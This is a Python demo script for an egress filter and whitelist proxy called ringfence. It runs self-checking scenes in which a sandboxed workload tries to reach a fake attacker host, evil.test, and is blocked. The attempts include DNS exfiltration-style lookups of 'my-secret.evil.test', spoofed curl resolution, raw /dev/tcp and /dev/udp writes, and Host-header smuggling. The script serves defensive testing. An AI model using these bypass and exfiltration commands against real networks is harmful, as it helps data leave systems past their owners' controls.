"""demo.py - filter and whitelist proxy at work, in numbered scenes that check themselves;
./dev demo runs it.

Everything is real but the internet: real curl, real TLS, real kernel rules, in namespaces of their
own that are gone at the end. Exit status 1 if a scene did not go as it says."""
import contextlib
import os
import re
import socket
import subprocess
import sys
import time

from fakedns import udp_serve
from forwarding import PROXY, TARGET2, Forwarding, until
from internet import ATTACKER, ATTACKER6, ORIGIN, ORIGIN6
from ringfence import binary
from world import World, policy_text

RESOLVER = "127.0.0.11"                 # in the box, as Docker has it
PATIENCE = 10                           # seconds
BOLD, DIM, RED, PLAIN = ("\033[1m", "\033[2m", "\033[31m", "\033[0m") \
    if sys.stdout.isatty() and not os.environ.get("NO_COLOR") else ("", "", "", "")

INTRODUCTION = f"""\
A workload sits in a box of its own. ringfence runs beside it and decides what gets out.
Outside is a small internet, made for this demo:
  allowed.test  at {ORIGIN} and {ORIGIN6}, which the workload may reach
  evil.test     at {ATTACKER} and {ATTACKER6}, where an attacker listens
"$" is what the workload types, "#" what the owner of the box does, "log" what ringfence says.
"""


def known(addr=ATTACKER):
    """For curl: this is where evil.test is, do not ask."""
    return f"--resolve evil.test:443:{addr} --resolve evil.test:80:{addr}"


class NotAsPromised(Exception):
    pass


def expect(promise, truth):
    if not truth:
        raise NotAsPromised(promise)


FORWARD_INTRODUCTION = f"""
Another workload sits on a network that leads nowhere. Beside it, on its network and on the outer
one, is ringfence as a whitelist proxy: at {PROXY}, which the workload's network knows as
allowed.test, as an alias in a compose file does. allowed.test itself is at {ORIGIN}.
"""


def show(mark, text):
    for line in text.rstrip("\n").splitlines() or [""]:
        print(f"  {mark} {line}".rstrip(), flush=True)


def tell(text):
    show(" ", text)


class Demo:
    def __init__(self, world):
        self.world, self.client, self.seen = world, world.client, 0
        self.env = [f"CURL_CA_BUNDLE={world.authority.file}", "CURL_HOME=/nonexistent",
                    "LC_ALL=C"]
        self.listen_for_names()

    def finish(self):
        self.world.close()

    def listen_for_names(self):
        """A resolver on the box's loopback, which knows the names of the fake internet."""
        internet = self.world.internet
        with self.world.box.entered():
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK)
        sock.bind((RESOLVER, 53))
        internet.loop.call_soon_threadsafe(udp_serve, sock, internet.on_question)
        with open(self.world.resolv_conf, "w") as file:
            file.write(f"nameserver {RESOLVER}\n")

    # What the owner does

    def start(self, keep_policy=False, **env):
        shown = " ".join([f"{name}={value}" for name, value in env.items()] +
                         ["POLICY_PATH=policy.yaml ringfence filter &"])
        show("#", shown)
        self.seen = 0
        policy = open(self.world.policy_path).read() if keep_policy else None
        self.world.start(domains=["allowed.test"], policy=policy,
                         env={"LOG_FORMAT": "text", **env})

    def policy(self, text):
        """Write the policy, and show it."""
        show("#", "cat policy.yaml")
        show(" ", text)
        self.world.write_policy(text)

    def log(self, *wanted):
        """Show the line that has all of these words, once it is there."""
        def found():
            return next((number for number, line in enumerate(ringfence.lines)
                         if number >= self.seen and all(word in line for word in wanted)), None)
        ringfence = self.world.ringfence
        ringfence.wait(lambda: found() is not None, PATIENCE, f"a log line with {wanted}")
        number = found()
        show(f"{DIM}log", ringfence.lines[number].replace(self.world.folder + "/policy/", "")
             + PLAIN)
        self.seen = number + 1
        return ringfence.lines[number]

    # What the workload does

    def type(self, command):
        """Run it in the box by bash, show it and what came of it."""
        show("$", command)
        done = self.client.run("env", *self.env, "bash", "-c", command, timeout=20)
        said = re.sub(r"^bash: line \d+: ", "", done.stdout + done.stderr, flags=re.M)
        tell(said)
        return said

    def reached(self, command, says):
        expect(f"it answers {says!r}", says in self.type(command))

    def refused(self, command, says):
        expect(f"it is refused: {says!r}", says in self.type(command))
        self.nothing_arrived()

    def nothing_arrived(self):
        packets = self.world.internet.arrived(ATTACKER, ATTACKER6)
        expect(f"nothing arrives at the attacker; {packets} packets did", packets == 0)

    def seconds_until(self, host, outcome):
        """Ask again and again until it goes like this."""
        begun = time.monotonic()
        while time.monotonic() < begun + PATIENCE:
            if self.world.client.http(host) == outcome:
                return time.monotonic() - begun
        raise NotAsPromised(f"{host} ends with {outcome} within {PATIENCE} s")


# The scenes: what is promised, and how it goes

def no_filter(demo):
    """Without a filter everything is reached"""
    demo.reached("curl -sS https://evil.test/", f"hello from evil.test at {ATTACKER}")
    demo.world.internet.reset()


def filter_starts(demo):
    """The owner writes down what may be reached, and starts ringfence"""
    demo.policy(policy_text(["allowed.test"]).replace("  ips: []\n", ""))
    demo.start()
    demo.log("startup.ready")


def allowed_v4(demo):
    """An allowed name is reached, over HTTPS and HTTP"""
    demo.reached("curl -sS -4 https://allowed.test/", f"hello from allowed.test at {ORIGIN}\n")
    demo.log("https.allowed", f"dst={ORIGIN}:443")
    demo.reached("curl -sS -4 http://allowed.test/", f"hello from allowed.test at {ORIGIN}\n")
    demo.log("http.allowed", f"dst={ORIGIN}:80")


def allowed_v6(demo):
    """By IPv6 too"""
    demo.reached("curl -sS -6 https://allowed.test/", f"hello from allowed.test at {ORIGIN6}\n")
    demo.log("https.allowed", f"dst=[{ORIGIN6}]:443")
    demo.reached("curl -sS -6 http://allowed.test/", f"hello from allowed.test at {ORIGIN6}\n")


def name_not_listed(demo):
    """A name that is not on the list is not looked up; the log says what would allow it"""
    demo.refused("curl -sS https://evil.test/", "Could not resolve host: evil.test")
    demo.log("dns.blocked", "qname=evil.test", 'to_allow="domains: evil.test"')
    demo.refused("dig @8.8.8.8 +tcp my-secret.evil.test | grep -e status: -e EDE:", "NXDOMAIN")
    demo.log("dns.blocked", "qname=my-secret.evil.test", "destination_ip=8.8.8.8", "protocol=TCP")
    expect("no resolver hears of it", not [question for question in
                                           demo.world.internet.dns.questions
                                           if "evil" in question.name])
    tell("No resolver outside has heard either name.")


def known_address(demo):
    """Whoever knows its address is refused all the same, over HTTPS and HTTP"""
    demo.refused(f"curl -sS {known()} https://evil.test/", "Connection reset by peer")
    demo.log("https.blocked", "https=evil.test", 'to_allow="domains: evil.test"')
    demo.refused(f"curl -sS {known()} http://evil.test/", "Connection reset by peer")
    demo.log("http.blocked", "host=evil.test")


def an_address(demo):
    """An address instead of a name is refused"""
    demo.refused(f"curl -sS --insecure https://{ATTACKER}/", "Connection reset by peer")
    demo.log("https.blocked", "reason=no-sni")
    demo.refused(f"curl -sS http://{ATTACKER}/", "Connection reset by peer")
    demo.log("http.blocked", f"host={ATTACKER}")


def spoofed_address(demo):
    """An allowed name cannot be used to reach the attacker: ringfence looks it up itself"""
    demo.reached(f"curl -sS --resolve allowed.test:443:{ATTACKER} https://allowed.test/",
                 f"hello from allowed.test at {ORIGIN}")
    demo.log("https.dst_mismatch", f"destination_ip={ATTACKER}", f"dialled={ORIGIN}:443")
    tell("The real allowed.test answered. The attacker saw no packet.")
    demo.nothing_arrived()


def other_port(demo):
    """Another port is refused at once, by the kernel"""
    demo.refused(f"curl -sS http://{ATTACKER}:9443/", "Failed to connect")
    demo.log("nflog.event", "destination_port=9443", f'to_allow="ips: {ATTACKER}"')


def ipv6(demo):
    """IPv6 is no way round"""
    demo.refused(f"curl -sS {known(f'[{ATTACKER6}]')} https://evil.test/",
                 "Connection reset by peer")
    demo.log("https.blocked", f"dst=[{ATTACKER6}]:443")
    demo.refused(f"curl -sS 'http://[{ATTACKER6}]/'", "Connection reset by peer")
    demo.refused(f"curl -sS 'http://[{ATTACKER6}]:9443/'", "Failed to connect")


def udp(demo):
    """UDP is refused, and QUIC with it, so browsers fall back to TCP"""
    demo.refused(f"echo hello > /dev/udp/{ATTACKER}/443", "not permitted")
    demo.log("nflog.event", f"destination_ip={ATTACKER}", "protocol=UDP")
    demo.refused(f"echo hello > /dev/udp/{ATTACKER6}/443", "not permitted")


def second_request(demo):
    """Every request of a connection is judged, not the first alone"""
    said = demo.type("curl -sS -4 http://allowed.test/ "
                     "--next -sS -4 http://allowed.test/ -H 'Host: evil.test'")
    expect("the first request is answered", f"hello from allowed.test at {ORIGIN}\n" in said)
    expect("the second is refused", "Connection reset by peer" in said)
    demo.log("http.blocked", "host=evil.test", f"destination_ip={ORIGIN}")
    expect("no server sees the second",
           all(request.host != "evil.test" for request in demo.world.internet.requests()))


def live_edit(demo):
    """An edit of the policy is in force at once, without a restart"""
    demo.policy(policy_text(["allowed.test", "evil.test"]).replace("  ips: []\n", ""))
    milliseconds = demo.seconds_until("evil.test", "OK") * 1000
    tell(f"In force {milliseconds:.1f} ms after the file was there.")
    demo.log("policy.applied", "+evil.test")
    demo.reached("curl -sS -4 https://evil.test/", f"hello from evil.test at {ATTACKER}")
    show("#", "sed -i /evil.test/d policy.yaml")
    demo.world.write_policy(policy_text(["allowed.test"]))
    demo.seconds_until("evil.test", "RESET")
    demo.log("policy.applied", "-evil.test")
    expect("it is refused again",
           "Could not resolve host" in demo.type("curl -sS -4 https://evil.test/"))
    demo.world.internet.reset()


def broken_edit(demo):
    """A broken edit changes nothing, and the log says where it is broken"""
    demo.policy('allowlist:\n  domains:\n    - "allowed.test\n    - "evil.test"\n')
    line = demo.log("policy.reload_failed")
    expect("the log names line and column", re.search(r"policy\.yaml:\d+:\d+: ", line))
    demo.reached("curl -sS -4 https://allowed.test/", f"hello from allowed.test at {ORIGIN}\n")
    demo.refused("curl -sS -4 https://evil.test/", "Could not resolve host")


def explain(demo):
    """BLOCK_ACTION=explain tells the workload why"""
    show("#", "pkill ringfence")
    demo.world.ringfence.stop()
    demo.start(BLOCK_ACTION="explain")
    demo.refused(f"curl -sS -i {known()} http://evil.test/", "HTTP/1.1 403 Forbidden")
    demo.refused(f"curl -sS {known()} https://evil.test/", "access denied")


def other_protocols(demo):
    """FILTER_MODE=dns-strict: any protocol, to the addresses that an allowed name gave"""
    show("#", "pkill ringfence")
    demo.world.ringfence.stop()
    demo.policy('allowlist:\n  domains:\n    - "allowed.test:22"\n')
    demo.start(FILTER_MODE="dns-strict", keep_policy=True)
    shell = "exec 3<>/dev/tcp/{}/{} && echo 'hello server' >&3 && timeout 5 head -n 1 <&3"
    demo.refused(shell.format(ORIGIN, 22), "refused")
    demo.reached("dig +short allowed.test", ORIGIN)
    demo.log("dns.allowed", "qname=allowed.test", f"answers={ORIGIN}")
    demo.reached(shell.format("allowed.test", 22), "hello server")
    tell("Only the port that the policy names, and only where the name led:")
    demo.refused(shell.format("allowed.test", 23), "refused")
    demo.refused(shell.format(ATTACKER, 22), "refused")


def killed(demo):
    """Killed, it leaves the box closed, not open"""
    show("#", "pkill -9 ringfence")
    demo.world.ringfence.kill()
    for command in "curl -sS -4 https://allowed.test/", f"curl -sS {known()} https://evil.test/":
        said = demo.type(command)
        expect("nothing is reached", "Could not resolve" in said or "Failed to connect" in said)
    demo.refused(f"curl -sS http://{ATTACKER}:9443/", "Failed to connect")


def off(demo):
    """The owner opens it again by hand"""
    show("#", "ringfence filter --off")
    done = demo.world.client.run(binary(), "filter", "--off")
    tell(done.stdout + done.stderr)
    demo.reached("curl -sS -4 https://evil.test/", f"hello from evil.test at {ATTACKER}")


SCENES = (no_filter, filter_starts, allowed_v4, allowed_v6, name_not_listed,
          known_address, an_address, spoofed_address, other_port, ipv6, udp, second_request,
          live_edit, broken_edit, explain, other_protocols, killed, off)


# The whitelist proxy

class ForwardDemo(Demo):
    """The same with `ringfence forward` between the workload and the internet."""
    def __init__(self, world):
        self.net = Forwarding(world)
        super().__init__(world)
        self.client = self.net.client

    def listen_for_names(self):
        self.net.reset()
        self.net.docker_dns.set("allowed.test", PROXY)

    def finish(self):
        self.net.close()
        super().finish()

    def start(self, command="ringfence forward", **env):
        """In place of the one before."""
        if self.world.started:
            show("#", "pkill ringfence")
            self.world.ringfence.stop()
        show("#", " ".join([*(f"{name}='{value}'" if " " in value else f"{name}={value}"
                              for name, value in env.items()), command, "&"]))
        self.seen = 0
        self.net.start(LOG_FORMAT="text", **env)

    def healthcheck(self):
        show("#", "ringfence healthcheck; echo $?")
        done = self.net.healthcheck()
        tell(f"{done.stdout}{done.stderr}{done.returncode}")
        return done.returncode


def port_open(demo):
    """One target, two ports: the workload reaches it by its own name, and nothing else"""
    demo.refused("curl -sS https://allowed.test/", "Failed to connect")
    demo.start(TARGET="allowed.test", PORT="80 443", PRE_RESOLVE="1", VERBOSE="1")
    demo.log("INFO:root:Resolved allowed.test to")
    demo.reached("curl -sS https://allowed.test/", "hello from allowed.test at")
    demo.log("forward.closed", ORIGIN)  # "done", or "client-lost" when curl is quick to leave
    demo.reached("curl -sS http://allowed.test/", "hello from allowed.test at")
    demo.refused(f"curl -sS --connect-timeout 2 https://{ATTACKER}/", "Failed to connect")
    demo.refused(f"curl -sS http://{PROXY}:8080/", "Failed to connect")


def port_mapped(demo):
    """Its ports can be others on our side"""
    demo.start(TARGET="allowed.test", PORT="8443:443 8080:80", PRE_RESOLVE="1")
    demo.reached("curl -sS https://allowed.test:8443/", "hello from allowed.test:8443 at")
    demo.reached("curl -sS http://allowed.test:8080/", "hello from allowed.test:8080 at")


def limit(demo):
    """At the limit nobody is turned away: who comes next waits, and is served in turn"""
    demo.world.internet.reset()
    demo.start(TARGET="allowed.test", PORT="80", PRE_RESOLVE="1", MAX_CONNECTIONS="1")
    sessions = demo.world.internet.sessions
    with contextlib.closing(demo.net.connect(80)):
        tell("(a first client connects and stays)")
        until(lambda: len(sessions) == 1, "the first client is at the target")
        show("$", "curl -sS http://allowed.test/ &")
        second = subprocess.Popen(
            [*demo.client.namespace.prefix(), "curl", "-sS", "-H", "Host: allowed.test",
             f"http://{PROXY}/"], stdout=subprocess.PIPE, text=True)
        until(lambda: len(demo.net.sockets("-t", "state", "established", "sport", "80")) == 2,
              "the second is accepted")
        tell("Two clients are connected, the target sees "
             f"{len(sessions)}; the second waits, and the first leaves.")
        expect("the second has got nothing", second.poll() is None and len(sessions) == 1)
    said, _ = second.communicate(timeout=PATIENCE)
    tell(said)
    expect("the second is answered", "hello from allowed.test" in said)


def udp_relay(demo):
    """UDP, each client with its own answers"""
    demo.start(TARGET="allowed.test", PORT="514", MODE="udp", PRE_RESOLVE="1")
    for number in 1, 2:
        demo.reached(f"exec 3<>/dev/udp/allowed.test/514; echo 'I am {number}' >&3; "
                     "timeout 5 head -n 1 <&3", f"I am {number}")


def health(demo):
    """A pinned address that the name has left is found by the health check; a restart mends it"""
    demo.world.internet.dns.set("allowed.test", ORIGIN, ttl=1)
    env = {"TARGET": "allowed.test", "PORT": "80 443", "PRE_RESOLVE": "1", "HTTP_HEALTHCHECK": "1"}
    demo.start(**env)
    expect("it is healthy", demo.healthcheck() == 0)
    demo.world.internet.dns.set("allowed.test", TARGET2, ttl=1)
    tell(f"(allowed.test moves to {TARGET2})")
    expect("it is unhealthy", demo.healthcheck() == 1)
    demo.start(**env)
    expect("it is healthy again", demo.healthcheck() == 0)
    demo.reached("curl -sS https://allowed.test/", f"hello from allowed.test at {TARGET2}")


FORWARD_SCENES = (port_open, port_mapped, limit, udp_relay, health)


def play(demo, scenes, first=1):
    """How many scenes went as promised."""
    kept = 0
    for number, scene in enumerate(scenes, first):
        print(f"\n{BOLD}{number}. {scene.__doc__}{PLAIN}", flush=True)
        try:
            scene(demo)
            kept += 1
        except Exception as error:      # the next scene may still tell something
            print(f"{RED}  NOT AS PROMISED: {error}{PLAIN}", flush=True)
    return kept


def main():
    if os.geteuid() != 0:
        sys.exit("demo: namespaces need root: sudo ./dev demo")
    kept = count = 0
    for introduction, kind, scenes in ((INTRODUCTION, Demo, SCENES),
                                       (FORWARD_INTRODUCTION, ForwardDemo, FORWARD_SCENES)):
        print(introduction, end="")
        demo = kind(World())
        try:
            kept += play(demo, scenes, count + 1)
        finally:
            demo.finish()
        count += len(scenes)
    print(f"\ndemo: {kept} of {count} scenes as promised")
    return 0 if kept == count else 1


if __name__ == "__main__":
    sys.exit(main())
